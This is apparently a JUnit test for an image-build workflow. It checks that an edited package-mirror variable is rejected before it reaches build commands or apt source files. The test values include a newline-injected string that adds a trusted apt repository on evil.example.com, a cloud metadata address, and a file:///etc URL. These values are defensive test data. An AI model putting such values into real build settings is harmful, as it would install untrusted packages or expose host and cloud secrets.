package org.imagefoundry.steps;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.runtime.Job;
import org.camunda.bpm.engine.runtime.ProcessInstance;
import org.camunda.bpm.engine.test.assertions.bpmn.BpmnAwareTests;
import org.imagefoundry.builds.BuildService;
import org.imagefoundry.host.Workspaces;
import org.imagefoundry.process.BuildVariables;
import org.imagefoundry.settings.FoundrySettings;
import org.imagefoundry.testing.FakeHost;
import org.imagefoundry.testing.ProcessDriver;
import org.imagefoundry.testing.ProcessTest;
import org.imagefoundry.testing.Requests;
import org.imagefoundry.users.Caller;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import static org.assertj.core.api.Assertions.assertThat;
import static org.camunda.bpm.engine.test.assertions.bpmn.BpmnAwareTests.init;

/**
 * A variable edited after the start (in Cockpit, or here through RuntimeService) is checked when a step
 * reads it: a bad value fails the step naming the variable, retried and then an incident, and never
 * reaches a command or a file of the image.
 */
@ProcessTest
class EditedVariablesProcessTest {

  static final String EVIL = "http://127.0.0.1:9/debian\ndeb [trusted=yes] http://evil.example.com/ bookworm main";

  @Autowired ProcessEngine engine;

  @Autowired org.imagefoundry.engine.SlotClaims slotClaims;
  @Autowired BuildService builds;
  @Autowired FakeHost host;
  @Autowired FoundrySettings settings;
  @Autowired Workspaces workspaces;

  ProcessDriver driver;

  @BeforeEach
  void setUp() {
    init(engine);
    host.reset();
    driver = new ProcessDriver(engine, slotClaims);
    Requests.clean(settings);
  }

  @AfterEach
  void resetClock() {
    ProcessDriver.resetClock();
  }

  @ParameterizedTest
  @ValueSource(strings = {"debootstrap", "configureApt"})
  void aMirrorEditedToCarryANewlineFailsTheStepNamingItAndReachesNoCommandNorSourcesList(String step) throws IOException {
    String id = builds.start(Requests.twoImages(settings), new Caller("admin", true));
    ProcessInstance build = engine.getRuntimeService().createProcessInstanceQuery().processInstanceBusinessKey(id)
        .singleResult();
    driver.runUntil(build, step);
    int before = host.commands().size();

    engine.getRuntimeService().setVariable(build.getId(), BuildVariables.MIRROR, EVIL);
    driver.run(build); // the step fails, is retried, and waits in an incident

    BpmnAwareTests.assertThat(build).isWaitingAt(step);
    Job failed = engine.getManagementService().createJobQuery().processInstanceId(build.getId()).singleResult();
    assertThat(failed.getRetries()).isZero();
    assertThat(failed.getExceptionMessage()).contains(step, "'mirror'");
    assertThat(engine.getRuntimeService().createIncidentQuery().processInstanceId(build.getId()).count()).isEqualTo(1);
    assertThat(host.commands().subList(before, host.commands().size()))
        .noneMatch(command -> command.stream().anyMatch(arg -> arg.contains("evil") || arg.contains("\n")));
    assertThat(host.commands("mmdebstrap")).noneMatch(command -> command.stream().anyMatch(arg -> arg.contains("evil")));
    Path sources = workspaces.of(id).root().resolve("etc/apt");
    if (Files.exists(sources)) {
      try (Stream<Path> files = Files.walk(sources)) {
        assertThat(files.filter(Files::isRegularFile).toList()).allSatisfy(file ->
            assertThat(Files.readString(file)).doesNotContain("evil"));
      }
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"ftp://127.0.0.1/debian", "http://169.254.169.254/latest", "file:///etc"})
  void aMirrorEditedToAnotherSchemeOrAnUnlistedHostFailsTheStepNamingIt(String mirror) {
    String id = builds.start(Requests.twoImages(settings), new Caller("admin", true));
    ProcessInstance build = engine.getRuntimeService().createProcessInstanceQuery().processInstanceBusinessKey(id)
        .singleResult();
    driver.runUntil(build, "debootstrap");

    engine.getRuntimeService().setVariable(build.getId(), BuildVariables.MIRROR, mirror);
    driver.run(build);

    BpmnAwareTests.assertThat(build).isWaitingAt("debootstrap");
    assertThat(engine.getManagementService().createJobQuery().processInstanceId(build.getId()).singleResult()
        .getExceptionMessage()).contains("'mirror'");
    assertThat(host.commands("mmdebstrap")).isEmpty();
  }
}
